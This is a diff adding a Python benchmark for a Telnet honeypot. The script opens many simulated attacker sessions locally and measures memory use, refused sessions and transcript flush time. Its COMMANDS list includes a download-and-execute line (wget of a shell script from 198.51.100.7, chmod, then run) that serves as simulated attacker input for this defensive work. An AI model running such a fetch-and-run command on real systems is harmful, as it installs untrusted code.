@@ -0,0 +1,166 @@
+#!/usr/bin/env python3
+"""
+Benchmark des sessions interactives
+Ouvre N sessions telnet simultanées (login puis quelques commandes, puis
+inactives) sur le TelnetHoneypot lancé dans un processus séparé, et mesure
+la mémoire réelle du serveur par session (RSS) face au coût maximal compté
+par le SessionManager, les sessions refusées au-delà du budget et le temps
+de vidage des transcriptions (dans la boucle et sur disque).
+
+Usage: python benchmarks/bench_sessions.py [--sessions 1000 10000] [--budget-mb 384]
+"""
+
+import argparse
+import asyncio
+import multiprocessing
+import os
+import queue
+import resource
+import sys
+import tempfile
+import time
+
+os.environ.setdefault('LOG_LEVEL', 'WARNING')
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..', 'honeypot'))
+
+from app import TelnetHoneypot  # noqa: E402
+from sessions import SessionManager  # noqa: E402
+
+PORT = 20023
+COMMANDS = [b"uname -a\r\n", b"cd /tmp; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh\r\n", b"cat /proc/cpuinfo\r\n"]
+
+
+class CountingLogger:
+    """Journal minimal: compte les événements (sans fichier ni API)"""
+
+    def __init__(self):
+        self.events = 0
+
+    async def record_connection(self, service, attacker_ip, attacker_port, captured=None):
+        pass
+
+    async def log_attack(self, **kwargs):
+        self.events += 1
+
+
+def rss_kb():
+    with open('/proc/self/status') as f:
+        for line in f:
+            if line.startswith('VmRSS:'):
+                return int(line.split()[1])
+    return 0
+
+
+def raise_fd_limit():
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < hard:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]
+
+
+def serve(budget, transcripts, ready, requests, replies):
+    """Processus serveur: répond aux demandes de mesure du client"""
+    raise_fd_limit()
+
+    async def run():
+        sessions = SessionManager(transcript_dir=transcripts, memory_budget=budget,
+                                  idle_timeout=600, max_duration=3600)
+        honeypot = TelnetHoneypot(CountingLogger(), sessions=sessions)
+        honeypot.port = PORT
+        task = asyncio.create_task(honeypot.start())
+        await asyncio.sleep(0.2)
+        ready.put(rss_kb())
+        while True:
+            try:
+                request = requests.get_nowait()
+            except queue.Empty:
+                await asyncio.sleep(0.1)
+                continue
+            if request == 'stop':
+                # Les clients ont fermé: on laisse les sessions se terminer sur EOF
+                for _ in range(100):
+                    if not sessions.sessions and len(asyncio.all_tasks()) <= 3:
+                        break
+                    await asyncio.sleep(0.1)
+                break
+            # Vidage complet: temps passé dans la boucle (copie des tampons) et total (disque)
+            start = time.perf_counter()
+            batch = list(filter(None, map(sessions._drain, list(sessions.sessions))))
+            drain = time.perf_counter() - start
+            await asyncio.get_running_loop().run_in_executor(None, sessions._write, batch)
+            flush = time.perf_counter() - start
+            replies.put({'rss_kb': rss_kb(), 'drain': drain, 'flush': flush, **sessions.stats()})
+        task.cancel()
+
+    asyncio.run(run())
+
+
+async def open_sessions(n, concurrency=500):
+    """n sessions: login, commandes, puis connexion gardée ouverte"""
+    semaphore = asyncio.Semaphore(concurrency)
+    writers, refused = [], 0
+
+    async def one():
+        nonlocal refused
+        async with semaphore:
+            reader, writer = await asyncio.open_connection('127.0.0.1', PORT)
+            banner = await reader.read(100)
+            if b'Login' not in banner:
+                refused += 1
+                writer.close()
+                return
+            writer.write(b"root\r\n")
+            await reader.readuntil(b"Password: ")
+            writer.write(b"admin\r\n")
+            await reader.readuntil(b"# ")
+            for command in COMMANDS:
+                writer.write(command)
+                await reader.readuntil(b"# ")
+            writers.append(writer)
+
+    start = time.perf_counter()
+    await asyncio.gather(*(one() for _ in range(n)))
+    return writers, refused, time.perf_counter() - start
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument('--sessions', type=int, nargs='+', default=[1000, 10000])
+    parser.add_argument('--budget-mb', type=int, default=384)
+    args = parser.parse_args()
+
+    print(f"Limite de descripteurs: {raise_fd_limit()}")
+    print(f"{'sessions':>9} {'ouvertes':>9} {'refusées':>9} {'durée':>8} {'RSS/session':>12} "
+          f"{'compté':>9} {'budget util.':>13} {'boucle':>8} {'disque':>8}")
+    print("-" * 96)
+    for n in args.sessions:
+        with tempfile.TemporaryDirectory() as transcripts:
+            ready, requests, replies = multiprocessing.Queue(), multiprocessing.Queue(), multiprocessing.Queue()
+            server = multiprocessing.Process(
+                target=serve, args=(args.budget_mb * 2**20, transcripts, ready, requests, replies)
+            )
+            server.start()
+            base_rss = ready.get()
+
+            async def measure():
+                writers, refused, elapsed = await open_sessions(n)
+                requests.put('measure')
+                stats = replies.get()  # Bloquant: le serveur est dans un autre processus
+                for writer in writers:
+                    writer.close()
+                await asyncio.sleep(0.1)
+                return len(writers), refused, elapsed, stats
+
+            opened, refused, elapsed, stats = asyncio.run(measure())
+            requests.put('stop')
+            server.join()
+
+            per_session = (stats['rss_kb'] - base_rss) * 1024 / max(stats['active'], 1)
+            cost = SessionManager().session_cost
+            print(f"{n:>9} {opened:>9} {refused:>9} {elapsed:>7.1f}s {per_session / 1024:>10.1f}Ko "
+                  f"{cost / 1024:>7.1f}Ko {stats['memory_used'] / 2**20:>7.0f}/{args.budget_mb}Mo "
+                  f"{stats['drain'] * 1000:>6.0f}ms {stats['flush'] * 1000:>6.0f}ms")
+
+
+if __name__ == '__main__':
+    main()